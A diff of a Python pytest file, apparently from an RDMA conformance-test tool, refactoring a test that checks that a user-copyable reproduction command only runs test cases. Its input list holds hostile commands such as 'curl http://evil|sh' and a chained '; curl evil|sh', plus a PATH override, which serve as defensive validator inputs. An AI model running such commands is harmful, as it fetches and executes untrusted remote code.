@@ -5,10 +5,11 @@ from typing import Any
 
 import pytest
 
-from actors import IDS, Actor, Stage, passed, ran, start, verdicts
+from actors import IDS, Actor, Stage, StagedRun, passed, ran, start, verdicts
 from conformance.errors import UserError
 from conformance.results.records import encode
 from conformance.tables.suite import VERSION
+from kinds import Patch
 from reports import digest, terminal
 from samples import header, user_error
 
@@ -83,7 +84,10 @@ def test_a_later_worker_with_such_a_fact_runs_no_case(stage: Stage, what: str) -
     assert digest.read(stage.path.parent).footer
 
 
-def test_a_command_that_a_user_could_copy_only_runs_cases(stage: Stage) -> None:
+def test_a_command_that_a_user_could_copy_only_runs_cases(
+    stage: Stage,
+    monkeypatch: Patch,
+) -> None:
     for command in (
         "curl http://evil|sh",
         "./rdma-cts run --only a; curl evil|sh",
@@ -99,8 +103,6 @@ def test_a_command_that_a_user_could_copy_only_runs_cases(stage: Stage) -> None:
         "PATH=/tmp rdma-cts run --only a",
     ):
         stage.path.unlink(missing_ok=True)
+        monkeypatch.setattr(StagedRun, "reproduction", lambda *facts, command=command: command)
         with pytest.raises(UserError, match="is not a command that runs the case"):
-            stage.supervise(
-                lambda cases: Actor(iter(ran(0, 1, 2, 3))),
-                reproduction=lambda case, device, command=command: command,
-            )
+            stage.supervise(lambda cases: Actor(iter(ran(0, 1, 2, 3))))
